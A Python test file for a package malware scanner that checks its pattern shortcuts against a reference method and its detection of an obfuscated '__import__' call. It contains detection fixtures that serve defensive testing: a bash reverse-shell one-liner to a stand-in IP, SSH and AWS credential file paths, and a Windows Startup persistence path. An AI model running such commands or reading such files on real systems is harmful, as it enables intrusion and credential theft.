"""The scanner's shortcuts give what the long way gives: the gate before the string
labels, the per-prefix pickle patterns, the memory reading kept open."""

from __future__ import annotations

import os
import re
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipwarden.scan import blobs as B
from pipwarden.scan import budget
from pipwarden.scan import patterns as P
from pipwarden.scan.engine import FileContext, analyse_member
from pipwarden.scan.facts import Label

_LITERALS = sorted({w for words in P._GATES.values() for w in words})


def _labels_the_long_way(text: str) -> frozenset[Label]:
    found: set[Label] = set()
    for label, rx, gate in P._LABEL_RES:
        if label not in found and gate.search(text) and rx.search(text):
            found.add(label)
    return frozenset(found)


def test_literal_trie_matches_exactly_its_words() -> None:
    words = ["os", "code", "codeop", "_pickle", "pickle", "urllib.request", "a"]
    rx = re.compile(P.literal_trie(words))
    assert all(rx.fullmatch(w) for w in words)
    for other in ("o", "cod", "codeo", "urllibXrequest", "_pickl", "", "ab", "pickles"):
        assert rx.fullmatch(other) is None


def test_every_gate_literal_passes_the_gate() -> None:
    for word in _LITERALS:
        assert P._ANY_GATE.search(f"x{word}y"), word


@pytest.mark.parametrize(
    "text",
    [
        "/home/u/.ssh/id_rsa",
        "~/.aws/credentials",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
        "C:\\Users\\x\\AppData\\Roaming\\evil.exe",
        "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
        "plain words only",
        "",
    ],
)
def test_string_labels_as_the_long_way(text: str) -> None:
    assert P.string_labels(text) == _labels_the_long_way(text)


@given(
    st.lists(
        st.one_of(st.sampled_from(_LITERALS), st.text(alphabet="ab1/.\\ -_:~xyz", max_size=8)),
        max_size=6,
    )
)
def test_string_labels_as_the_long_way_on_built_strings(parts: list[str]) -> None:
    text = "".join(parts)
    assert P.string_labels.__wrapped__(text) == _labels_the_long_way(text)


_MODULES = B._PICKLE_MODULES
_PREFIXES = (b"c", b"\x8c\x05", b"X\x07\x00\x00\x00", b"V", b"d", b"\x8c")
_ENDS = (b"\n", b"\x94", b"\x8c", b"\x93", b"X", b"V", b"\x00", b"x", b"")


def _one_pattern(data: bytes) -> bool:
    return B._PICKLE_MODULE_RE.search(data) is not None


def _split_patterns(data: bytes) -> bool:
    return any(rx.search(data) for rx in B._PICKLE_MODULE_RES)


def test_pickle_module_patterns_as_the_single_one() -> None:
    for module in [*_MODULES, "o", "pickl", "urllibXrequest", "collections"]:
        for prefix in _PREFIXES:
            for end in _ENDS:
                data = b"\x80\x04" + prefix + module.encode() + end + b"."
                assert _split_patterns(data) == _one_pattern(data), data


@given(
    st.lists(
        st.one_of(
            st.sampled_from([m.encode() for m in _MODULES]),
            st.sampled_from([*_PREFIXES, *_ENDS]),
            st.binary(max_size=4),
        ),
        max_size=8,
    )
)
def test_pickle_module_patterns_as_the_single_one_on_built_bytes(parts: list[bytes]) -> None:
    data = b"".join(parts)
    assert _split_patterns(data) == _one_pattern(data)


def test_a_table_of_numbers_still_folds() -> None:
    # "__import__" spelled as code points, decoded character by character.
    codes = ", ".join(str(ord(c)) for c in "__import__")
    src = f"name = ''.join(chr(c) for c in ({codes},))\ngetattr(__builtins__, name)('os')\n"
    found = analyse_member(FileContext("pkg/__init__.py", "wheel", True), src.encode())
    assert any(
        f.rule == "obfuscation.hidden-name" and "'__import__'" in f.message for f in found
    ), found


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_rss_is_read_again_in_a_forked_child() -> None:
    first = budget.rss()
    assert first is not None and first > 0
    assert budget.rss() is not None
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        ok = budget.rss() is not None and budget._STATM is not None
        os.write(write, b"1" if ok and budget._STATM[0] == os.getpid() else b"0")
        os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    assert os.read(read, 1) == b"1"
    os.close(read)
